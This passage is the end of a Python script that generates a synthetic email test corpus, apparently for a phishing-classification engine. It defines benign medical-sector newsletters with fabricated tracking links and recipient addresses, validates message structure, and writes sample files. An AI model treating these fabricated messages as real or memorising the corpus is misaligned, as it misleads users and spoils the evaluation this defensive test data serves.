                   unsub_url=f"https://bva.us5.list-manage.com/unsubscribe?u={hx('b4u', 25)}&id={hx('b4id', 10)}&e={hx('b4e', 10)}",
                   list_id=f"{hx('b4u', 25)}mc list <{hx('b4u', 25)}.{num('b4l', 100000, 999999)}.list-id.mcsv.net>",
                   extra_post=[f"X-Mailchimp-Client: {hx('b4u', 25)}"])
    add("bulk", "bulk", "bva-news-mailchimp",
        "British Veterinary Association member newsletter to a vet practice via Mailchimp (authenticated, list-manage.com "
        "tracking, List-ID and unsubscribe).", raw)

    # ---- ADA Morning Huddle (Marketo)
    def mk(seed: str) -> str:
        return f"https://go.ada.org/NzE2LUpTRC0wNzgAAAG{alnum(seed, 60)}"
    items = [(t, b, mk("b5" + t)) for t, b in [
        ("Dental practices see steady patient volume in Q2, HPI survey finds", "ADA Health Policy Institute"),
        ("FDA clears new caries detection device", "Dental Products Report"),
        ("CDT 2026 code changes: what your front office should know", "ADA News")]]
    footer = ("This email was sent to you as a member of the American Dental Association, 211 E. Chicago Ave., Chicago, IL 60611. "
              f'<a href="{mk("b5unsub")}">Unsubscribe</a> or <a href="{mk("b5pref")}">manage your preferences</a>.')
    raw = bulk_msg(kind="marketo", seed="b5ada", dt="2025-08-14 06:45:19 -0500", rc="dr.whitman@riversidefamilydental.com",
                   rcpt_kind="gws", region="nam", dom="ada.org", frm=addr("ADA Morning Huddle", "morninghuddle@ada.org"),
                   subj="Morning Huddle: Patient volume steady in Q2 | New caries detection device",
                   html=news_html("ADA Morning Huddle", "#0f4c81", items, footer), plain=news_plain("ADA Morning Huddle", items, footer),
                   unsub_url=mk("b5lu"), extra_post=[f"X-Binding: bg-ab{num('b5x', 10, 99)}", f"X-MarketoID: 716-JSD-078:{num('b5m', 100, 999)}:{num('b5n', 10**6, 10**7)}"])
    add("bulk", "bulk", "ada-morning-huddle-marketo",
        "American Dental Association daily news digest via Marketo (ada.org DKIM, go.ada.org tracking links, unsubscribe) "
        "to a dentist.", raw)



def batch_b2() -> None:
    # ---- IHI Forum marketing via HubSpot
    def hs(seed: str) -> str:
        return f"https://{alnum('b6d', 8).lower()}.na1.hubspotlinks.com/Ctc/{alnum('b6c', 2, True)}+113/d{alnum('b6dd', 6)}/VW{alnum(seed, 60)}"
    items = [(t, b, hs("b6" + t)) for t, b in [
        ("IHI Forum 2025: registration is open", "December 7-10, Orlando. Save $200 with early registration until September 30."),
        ("New: Patient Safety Essentials Toolkit", "Free tools for frontline teams."),
        ("Webinar: Reducing workplace violence in health care", "Thursday, August 21, 1:00 PM ET.")]]
    footer = ("Institute for Healthcare Improvement &middot; 53 State Street, 19th Floor, Boston, MA 02109<br>"
              f'<a href="{hs("b6unsub")}">Unsubscribe</a> &middot; <a href="{hs("b6pref")}">Manage preferences</a>')
    raw = bulk_msg(kind="hubspot", seed="b6ihi", dt="2025-08-05 10:02:47 -0400", rc="kpatel@northshorechildrens.org",
                   rcpt_kind="m365", region="nam", dom="ihi.org", frm=addr("Institute for Healthcare Improvement", "info@ihi.org"),
                   subj="IHI Forum 2025 registration is open - early rate ends Sept 30",
                   html=news_html("IHI", "#00355f", items, footer), plain=news_plain("IHI", items, footer),
                   unsub_url=hs("b6lu"))
    add("bulk", "bulk", "ihi-forum-registration-hubspot",
        "Institute for Healthcare Improvement conference marketing via HubSpot (ihi.org DKIM, hubspotlinks tracking, "
        "unsubscribe) announcing real registration with fees on its own site.", raw)

    # ---- Medline product promotion (SFMC) to a care home
    def ml(seed: str) -> str:
        return f"https://click.e.medline.com/?qs={hx(seed, 96)}"
    items = [(t, b, ml("b7" + t)) for t, b in [
        ("Winter skin care: save 15% on Remedy Essentials", "Prevent incontinence-associated dermatitis in your residents."),
        ("Fall prevention bundle for long-term care", "Low beds, alarms and non-slip socks in one order."),
        ("New: FitRight Restore briefs", "Free samples for your facility.")]]
    footer = ("Medline Industries, LP, Three Lakes Drive, Northfield, IL 60093. You are receiving this email because you are a "
              f'Medline customer. <a href="{ml("b7u")}">Unsubscribe</a> &middot; <a href="{ml("b7p")}">Privacy</a>')
    raw = bulk_msg(kind="sfmc", seed="b7med", dt="2024-11-12 09:17:31 -0600", rc="dhenderson@pinecrestseniorliving.com",
                   rcpt_kind="m365", region="nam", dom="e.medline.com", frm=addr("Medline", "medline@e.medline.com"),
                   subj="Winter skin care savings for your residents + free brief samples",
                   html=news_html("MEDLINE", "#004c97", items, footer), plain=news_plain("MEDLINE", items, footer),
                   unsub_url=ml("b7lu"))
    add("bulk", "bulk", "medline-ltc-promotion-sfmc",
        "Medline product promotion to a senior-living customer via Salesforce Marketing Cloud (e.medline.com, "
        "click.e.medline.com tracking, unsubscribe).", raw)

    # ---- Le Quotidien du Médecin newsletter (Brevo)
    def br(seed: str) -> str:
        return f"https://{alnum('b8s', 5).lower()}.r.sp1-brevo.net/mk/cl/f/sh/{alnum(seed, 40)}"
    items = [(t, b, br("b8" + t)) for t, b in [
        ("Tarifs : ce qui change pour la consultation au 1er décembre", "Le G passe à 30 euros, les nouvelles cotations détaillées."),
        ("Grippe et Covid : la campagne de vaccination prolongée", "Les pharmaciens et infirmiers mobilisés jusqu'en février."),
        ("Permanence des soins : les cliniques privées sollicitées", "Le point sur les gardes dans les établissements.")]]
    footer = ("Vous recevez cette lettre car vous êtes inscrit(e) sur lequotidiendumedecin.fr. "
              f'<a href="{br("b8u")}">Se désinscrire</a> &middot; GPS Santé, 114 avenue Charles de Gaulle, 92200 Neuilly-sur-Seine')
    raw = bulk_msg(kind="brevo", seed="b8qdm", dt="2024-11-28 06:30:02 +0100", rc="dr.lefebvre@clinique-saintroch.fr",
                   rcpt_kind="m365", region="fra", dom="lequotidiendumedecin.fr",
                   frm=addr("Le Quotidien du Médecin", "newsletter@lequotidiendumedecin.fr"),
                   subj="La lettre du Quotidien : tarifs au 1er décembre, vaccination prolongée",
                   html=news_html("Le Quotidien du Médecin", "#c4161c", items, footer),
                   plain=news_plain("Le Quotidien du Médecin", items, footer), unsub_url=br("b8lu"))
    add("bulk", "bulk", "quotidien-medecin-lettre-fr",
        "French medical daily newsletter (Le Quotidien du Médecin) to a clinic doctor via Brevo, authenticated, tracked "
        "links and unsubscribe.", raw)

    # ---- Deutsches Ärzteblatt newsletter (Mailchimp-free: own ESP subdomain via SendGrid branding)
    def ab(seed: str) -> str:
        return f"https://url{num('b9u', 1000, 9999)}.aerzteblatt.de/ls/click?upn=u001.{b64(seed, 80).replace('/', '-').replace('+', '_')}"
    items = [(t, b, ab("b9" + t)) for t, b in [
        ("Krankenhausreform: Länder fordern Nachbesserungen", "Der Bundesrat berät über das Transformationsgesetz."),
        ("ePA für alle: Erste Erfahrungen aus den Modellregionen", "Praxen berichten über Startschwierigkeiten."),
        ("Neue S3-Leitlinie Hypertonie veröffentlicht", "Die wichtigsten Änderungen im Überblick.")]]
    footer = ("Sie erhalten diesen Newsletter, weil Sie ihn auf aerzteblatt.de abonniert haben. "
              f'<a href="{ab("b9unsub")}">Newsletter abbestellen</a> &middot; Deutscher Ärzteverlag GmbH, Dieselstraße 2, 50859 Köln')
    raw = bulk_msg(kind="sendgrid", seed="b9dae", dt="2025-02-12 07:05:44 +0100", rc="praxis@praxis-drbrandt.de",
                   rcpt_kind="gws", region="nam", dom="aerzteblatt.de",
                   frm=addr("Deutsches Ärzteblatt", "newsletter@aerzteblatt.de"),
                   subj="Ärzteblatt-Newsletter: Krankenhausreform, ePA-Start, neue Hypertonie-Leitlinie",
                   html=news_html("Deutsches Ärzteblatt", "#1d5a96", items, footer),
                   plain=news_plain("Deutsches Ärzteblatt", items, footer), unsub_url=ab("b9lu"))
    add("bulk", "bulk", "aerzteblatt-newsletter-de",
        "Deutsches Ärzteblatt newsletter to a German practice via SendGrid with branded aerzteblatt.de tracking links, "
        "DKIM and unsubscribe.", raw)

    # ---- Vivian Health job alert for travel nurses (SendGrid branded)
    def vv(seed: str) -> str:
        return f"https://url{num('b10u', 1000, 9999)}.vivian.com/ls/click?upn=u001.{b64(seed, 80).replace('/', '-').replace('+', '_')}"
    items = [(t, b, vv("b10" + t)) for t, b in [
        ("Travel RN - ICU - Tucson, AZ", "$2,310/wk est. &middot; 13 weeks &middot; Nights"),
        ("Travel RN - Step Down - Denver, CO", "$2,150/wk est. &middot; 13 weeks &middot; Days"),
        ("Travel RN - ICU - Sacramento, CA", "$3,020/wk est. &middot; 13 weeks &middot; Nights")]]
    footer = ("You're receiving this because you set up job alerts on Vivian Health. "
              f'<a href="{vv("b10unsub")}">Unsubscribe</a> &middot; Vivian Health, 548 Market St, San Francisco, CA 94104')
    raw = bulk_msg(kind="sendgrid", seed="b10viv", dt="2025-03-09 08:00:21 -0700", rc="kayla.j.simmons@gmail.com",
                   rcpt_kind="gmail", region="nam", dom="vivian.com", frm=addr("Vivian Health", "jobs@vivian.com"),
                   subj="3 new ICU travel jobs matching your preferences",
                   html=news_html("Vivian", "#3b1f8f", items, footer), plain=news_plain("Vivian", items, footer),
                   unsub_url=vv("b10lu"))
    add("bulk", "bulk", "vivian-travel-nurse-job-alert",
        "Vivian Health job-alert digest for a travel nurse's Gmail via SendGrid (vivian.com DKIM, branded click tracking, "
        "unsubscribe), with realistic pay ranges and no data requests.", raw)


# ==== END OF BATCHES


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b33-legit-adp-pay-statement-available": "bulk",
    "b33-legit-mychart-new-message-genuine": "bulk",
    "b33-legit-nmc-revalidation-reminder-genuine": "bulk",
    "b33-legit-henry-schein-invoice-genuine": "bulk",
    "b33-legit-sharepoint-policy-share-internal": "bulk",
    "b33-legit-availity-password-expiry-genuine": "bulk",
}


def check(raw: bytes, name: str) -> None:
    msg = email.parser.BytesParser(policy=email.policy.default).parsebytes(raw)
    for line in raw.split(b"\n"):
        assert len(line) < 990, f"{name}: line of {len(line)} bytes"
    for part in msg.walk():
        assert not part.defects, f"{name}: defects {part.defects}"
        for key, value in part.items():
            assert not getattr(value, "defects", None), f"{name}: header {key} defects {value.defects}"
        if not part.is_multipart():
            content = part.get_content()
            assert content is not None, f"{name}: empty content"
    assert msg["From"] and msg["Date"] and msg["Message-ID"] and msg["Subject"] is not None, name


def main() -> None:
    for old in sorted(MAIL.glob("*/b33-*.eml")):
        old.unlink()
    for name, fn in list(globals().items()):
        if name.startswith("batch_") and callable(fn):
            fn()
    lines = []
    seen = set()
    counts: dict[str, int] = {}
    for cat, kind, slug, desc, raw in MESSAGES:
        stem = f"b33-{kind}-{slug}"
        assert stem not in seen, stem
        seen.add(stem)
        cat = REFILED.get(stem, cat)
        check(raw, stem)
        folder = MAIL / cat
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{stem}.eml").write_bytes(raw)
        lines.append(f"samples/mail/{cat}/{stem}.eml | {cat} | {desc}")
        counts[cat] = counts.get(cat, 0) + 1
    attacks = sum(1 for m in MESSAGES if m[1] == "phish")
    legit = sum(1 for m in MESSAGES if m[1] in ("legit", "bulk"))
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(MESSAGES)} messages: {attacks} attacks, {legit} legitimate; per category: "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    assert attacks == 50, attacks
    assert legit == 25, legit


if __name__ == "__main__":
    main()
